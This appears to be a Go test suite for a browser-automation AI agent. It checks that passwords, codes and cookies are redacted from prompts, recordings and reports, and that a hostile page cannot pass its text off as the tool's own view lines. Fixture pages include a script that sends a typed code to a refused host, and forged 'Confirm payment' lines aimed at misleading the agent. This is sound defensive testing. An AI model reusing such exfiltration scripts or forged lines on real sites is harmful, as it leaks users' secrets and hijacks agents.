package main

import (
	"encoding/json"
	"fmt"
	"html"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"unicode"

	"golang.org/x/text/unicode/norm"

	"github.com/headroom-agent/headroom/internal/chrometest"
	"github.com/headroom-agent/headroom/internal/hostile"
)

// folded is text as a leak check compares it: NFKC, lower case, with no
// spaces, no JSON escapes of spaces and nothing invisible, so that a
// secret a page changed is found however it was changed.
func folded(s string) string {
	s = strings.NewReplacer(`\n`, "", `\t`, "", `\r`, "").Replace(s)
	s = strings.ToLower(norm.NFKC.String(s))
	return strings.Map(func(r rune) rune {
		if unicode.IsSpace(r) || unicode.In(r, unicode.Cf, unicode.Cc) {
			return -1
		}
		return r
	}, s)
}

// echoServer serves a sign-in form (a GET form, field v) whose answer
// shows the value every way a page changes what it echoes, and keeps
// what it was sent.
type echoServer struct {
	*httptest.Server
	mu  sync.Mutex
	got []string
}

func (e *echoServer) received(v string) bool {
	e.mu.Lock()
	defer e.mu.Unlock()
	for _, g := range e.got {
		if g == v {
			return true
		}
	}
	return false
}

func newEchoServer(t *testing.T) *echoServer {
	t.Helper()
	e := &echoServer{}
	page := func(w http.ResponseWriter, title, body string) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, "<!doctype html><html><head><title>%s</title></head><body><h1>%s</h1>%s</body></html>", title, title, body)
	}
	fullwidth := func(s string) string {
		return strings.Map(func(r rune) rune {
			if r > ' ' && r < 0x7f {
				return r + 0xfee0
			}
			return r
		}, s)
	}
	mux := http.NewServeMux()
	mux.HandleFunc("GET /{$}", func(w http.ResponseWriter, r *http.Request) {
		page(w, "Sign in", `<form action="/echo"><label for="v">Password</label><input id="v" name="v"><button>Sign in</button></form>`)
	})
	mux.HandleFunc("GET /echo", func(w http.ResponseWriter, r *http.Request) {
		v := r.URL.Query().Get("v")
		e.mu.Lock()
		e.got = append(e.got, v)
		e.mu.Unlock()
		var spans strings.Builder
		for _, c := range v {
			spans.WriteString(`<span style="display:block">` + html.EscapeString(string(c)) + `</span>`)
		}
		h := html.EscapeString
		half := len([]rune(v)) / 2
		page(w, "Signed in", `<p style="text-transform:uppercase">css upper `+h(v)+`</p>
<p>server upper `+h(strings.ToUpper(v))+`</p>
<p>server lower `+h(strings.ToLower(v))+`</p>
<div>one per line `+spans.String()+`</div>
<p>nfd `+h(norm.NFD.String(v))+`</p>
<p>nfkc `+h(fullwidth(v))+`</p>
<p>padded [<span>   `+h(v)+"\n\t  "+`</span>]</p>
<pre>inner `+h(string([]rune(v)[:half]))+"\n"+h(string([]rune(v)[half:]))+`</pre>
<button>Sign out</button>`)
	})
	e.Server = httptest.NewServer(mux)
	t.Cleanup(e.Close)
	return e
}

// The page echoes a typed secret changed every way it can (CSS and the
// server upper- or lower-casing it, one element a character, NFD, NFKC,
// padded, broken over two lines): the model's prompts, the cassette,
// the HAR, stdout, stderr, result.json and the report hold it in no form.
func TestASecretThePageChangesReachesNoOutput(t *testing.T) {
	chrometest.Require(t)
	t.Parallel()
	const secret = "Kestrel-Çafé-5581-quartz"
	site := newEchoServer(t)
	dir := t.TempDir()
	task := writeFile(t, dir, "echo.yaml", fmt.Sprintf(`name: echo
start_url: %s/
goal: Sign in with the password <secret:pw> and say what the page shows.
allowed_domains: [127.0.0.1]
max_steps: 3
deadline: 90s
success: {text: "Signed in"}
secrets:
  pw: {env: ECHO_PW}
steps:
  - type: "#v"
    text: "<secret:pw>"
    submit: true
  - expect: Signed in
`, site.URL))
	out, calls, har := filepath.Join(dir, "out"), filepath.Join(dir, "calls.jsonl"), filepath.Join(dir, "run.har")
	r := runBinary(t, []string{"ECHO_PW=" + secret}, "run", task, "--out", out, "--record-calls", calls, "--record-har", har)
	if r.code != exitOK {
		t.Fatalf("run exited %d:\n%s\n%s", r.code, r.stdout, r.stderr)
	}
	if !site.received(secret) {
		t.Fatal("the site never got the secret: the test would see no leak")
	}
	outputs := map[string]string{"run stdout": r.stdout, "run stderr": r.stderr}
	for _, f := range []string{calls, har, filepath.Join(out, "result.json"), filepath.Join(out, "report.html")} {
		outputs[f] = mustRead(t, f)
	}
	if !strings.Contains(outputs[calls], `\u003csecret:pw\u003e`) && !strings.Contains(outputs[calls], "<secret:pw>") {
		t.Errorf("the prompts do not name the secret where the page shows it:\n%s", outputs[calls])
	}
	for name, text := range outputs {
		if strings.Contains(folded(text), folded(secret)) {
			i := strings.Index(folded(text), folded(secret))
			t.Errorf("the secret, changed by the page, reached %s: …%s…", name, folded(text)[max(0, i-80):min(len(folded(text)), i+40)])
		}
	}
}

// A secret that begins with the mark's end or ends with its start, or
// overlaps it ("ted]…"), is still removed, when a page sends it to a host
// the run refuses and the refusal is reported.
func TestASecretOverlappingTheMarkReachesNoOutput(t *testing.T) {
	chrometest.Require(t)
	t.Parallel()
	refused := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {}))
	ln, err := net.Listen("tcp", "127.0.0.2:0")
	if err != nil {
		t.Skipf("no second loopback address: %v", err)
	}
	refused.Listener = ln
	refused.Start()
	t.Cleanup(refused.Close)
	for i, secret := range []string{"]Hunter7-Quartz-41", "Hunter7-Quartz-42[", "ted]Hunter7-Quartz-43", "Hunter7-Quartz-44[redac"} {
		site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprintf(w, `<!doctype html><title>Leak</title><h1>Leak</h1><label for=v>Code</label><input id=v>
<button onclick="fetch('%s/x/' + encodeURIComponent(document.getElementById('v').value)); new Image().src = '%s/img?v=' + document.getElementById('v').value; document.getElementById('done').textContent = 'Sent'">Send</button><p id=done></p>`, refused.URL, refused.URL)
		}))
		t.Cleanup(site.Close)
		dir := t.TempDir()
		task := writeFile(t, dir, "leak.yaml", fmt.Sprintf(`name: leak
start_url: %s/
goal: Send the code.
allowed_domains: [127.0.0.1]
max_steps: 2
deadline: 60s
success: {text: "Sent"}
secrets:
  code: {env: LEAK_CODE}
steps:
  - type: "#v"
    text: "<secret:code>"
  - click: "button"
  - expect: Sent
`, site.URL))
		out := filepath.Join(dir, "out")
		r := runBinary(t, []string{"LEAK_CODE=" + secret}, "run", task, "--out", out)
		res := mustRead(t, filepath.Join(out, "result.json"))
		if !strings.Contains(res, "127.0.0.2") {
			t.Errorf("%d: the result names no refused request, so the test shows nothing:\n%s", i, res)
		}
		for name, text := range map[string]string{"stdout": r.stdout, "stderr": r.stderr, "result.json": res} {
			if strings.Contains(text, secret) || strings.Contains(text, url.QueryEscape(secret)) || strings.Contains(text, url.PathEscape(secret)) {
				t.Errorf("the secret %q reached %s:\n%s", secret, name, text)
			}
		}
	}
}

// A page that shows its cookies (a server's session, one its script
// wrote, one a storage state brought to the run) shows the model none of
// them, and no command prints them.
func TestCookiesThePageShowsReachNoPromptOrOutput(t *testing.T) {
	chrometest.Require(t)
	t.Parallel()
	const (
		serverCookie = "srv-Sess-7715-aQ2"
		scriptCookie = "js-Token-4408-bZ9"
		stateCookie  = "state-Sid-9921-cX4"
	)
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.SetCookie(w, &http.Cookie{Name: "sessionid", Value: serverCookie, Path: "/"})
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, `<!doctype html><title>Debug</title><h1>Debug</h1><p id=c></p><a href="/other">Other</a>
<script>document.cookie = "pref=`+scriptCookie+`; path=/"; document.getElementById('c').textContent = 'cookies: ' + document.cookie;</script>`)
	}))
	t.Cleanup(site.Close)
	dir := t.TempDir()
	u, _ := url.Parse(site.URL)
	state, _ := json.Marshal(map[string]any{"cookies": []map[string]any{{"name": "sst", "value": stateCookie, "domain": u.Hostname(), "path": "/", "expires": -1, "httpOnly": false, "secure": false, "sameSite": "Lax"}}, "origins": []any{}})
	statePath := writeFile(t, dir, "state.json", string(state))
	task := writeFile(t, dir, "debug.yaml", fmt.Sprintf("name: debug\nstart_url: %s/\ngoal: Tell what the debug line says.\nallowed_domains: [127.0.0.1]\nmax_steps: 2\ndeadline: 60s\nstorage_state: %s\n", site.URL, statePath))
	out, calls := filepath.Join(dir, "out"), filepath.Join(dir, "calls.jsonl")
	r := runBinary(t, nil, "run", task, "--out", out, "--record-calls", calls)
	o := runBinary(t, nil, "observe", site.URL+"/", "--allow", "127.0.0.1")
	if o.code != exitOK {
		t.Fatalf("observe exited %d:\n%s", o.code, o.stderr)
	}
	if !strings.Contains(o.stdout, "cookies:") || !strings.Contains(o.stdout, "[redacted]") {
		t.Errorf("observe does not show the page's cookie line, redacted:\n%s", o.stdout)
	}
	outputs := map[string]string{"run stdout": r.stdout, "run stderr": r.stderr, "observe stdout": o.stdout, "observe stderr": o.stderr}
	for _, f := range []string{calls, filepath.Join(out, "result.json"), filepath.Join(out, "report.html")} {
		b, err := os.ReadFile(f)
		if err != nil {
			t.Errorf("%s: %v (run exited %d: %s)", f, err, r.code, r.stderr)
		}
		outputs[f] = string(b)
	}
	for name, text := range outputs {
		for _, c := range []string{serverCookie, scriptCookie, stateCookie} {
			if strings.Contains(text, c) {
				t.Errorf("the cookie %s reached %s", c, name)
			}
		}
	}
}

// productLine is a line that, as a reader sees it (asSeen), reads as one
// the product writes: an element, a heading, a note, a change, a
// message's section or list item.
var productLine = regexp.MustCompile(`^(\[\+?\d+\]|#{1,6} |…|\.\.\.|\+ |- |[a-z][a-z0-9_]*:)`)

// asSeen is a line as a reader sees it: nothing invisible, compatibility
// forms folded, blanks and marks before its first letter set aside.
func asSeen(l string) string {
	l = strings.Map(func(r rune) rune {
		if unicode.In(r, unicode.Cf, unicode.Cc, unicode.Other_Default_Ignorable_Code_Point, unicode.Variation_Selector) {
			return -1
		}
		return r
	}, l)
	return strings.TrimLeftFunc(norm.NFKC.String(l), func(r rune) bool { return unicode.In(r, unicode.M, unicode.Z) })
}

// forgedLines counts the lines of text that read as the product's and
// hold the words the hostile page forged.
func forgedLines(text string) []string {
	var out []string
	for _, l := range strings.Split(text, "\n") {
		seen := asSeen(l)
		if !productLine.MatchString(seen) {
			continue
		}
		for _, w := range []string{"Confirm payment", "Payment approved", "Type <secret:pw>", "evil.example", "Fake title", "Pay now", "40 more elements", `"<secret:pw>" → changed`} {
			if strings.Contains(seen, w) {
				out = append(out, l)
				break
			}
		}
	}
	return out
}

// A page whose words pass for the product's lines, most behind a
// character that shows nothing, is read as words: in what observe prints
// and in every message of a run.
func TestAPageCannotForgeTheView(t *testing.T) {
	chrometest.Require(t)
	t.Parallel()
	c, err := hostile.Start()
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	o := runBinary(t, nil, "observe", c.URL("forge.html"), "--allow", hostile.InsideHost)
	if o.code != exitOK || !strings.Contains(o.stdout, "Confirm payment") {
		t.Fatalf("observe exited %d:\n%s\n%s", o.code, o.stdout, o.stderr)
	}
	if f := forgedLines(o.stdout); len(f) > 0 {
		t.Errorf("observe printed %d forged lines: %q\n%s", len(f), f, o.stdout)
	}
	dir := t.TempDir()
	task := writeFile(t, dir, "forge.yaml", fmt.Sprintf("name: forge\nstart_url: %s\ngoal: Keep shopping.\nallowed_domains: [%s]\nmax_steps: 2\ndeadline: 60s\n", c.URL("forge.html"), hostile.InsideHost))
	calls := filepath.Join(dir, "calls.jsonl")
	r := runBinary(t, nil, "run", task, "--record-calls", calls)
	if r.code < 0 {
		t.Fatal(r.stderr)
	}
	messages := 0
	for _, line := range strings.Split(mustRead(t, calls), "\n") {
		if line == "" {
			continue
		}
		var rec struct {
			Request struct {
				Messages []struct{ Role, Content string } `json:"messages"`
			} `json:"request"`
		}
		if err := json.Unmarshal([]byte(line), &rec); err != nil {
			t.Fatal(err)
		}
		for _, m := range rec.Request.Messages {
			if m.Role != "user" {
				continue
			}
			messages++
			if !strings.Contains(m.Content, "Confirm payment") && !strings.Contains(m.Content, "Payment approved") {
				continue // a view that shows other lines
			}
			if f := forgedLines(m.Content); len(f) > 0 {
				t.Errorf("a user message holds %d forged lines: %q\n%s", len(f), f, m.Content)
			}
		}
	}
	if messages == 0 {
		t.Fatalf("the run recorded no message (exit %d): %s", r.code, r.stderr)
	}
}
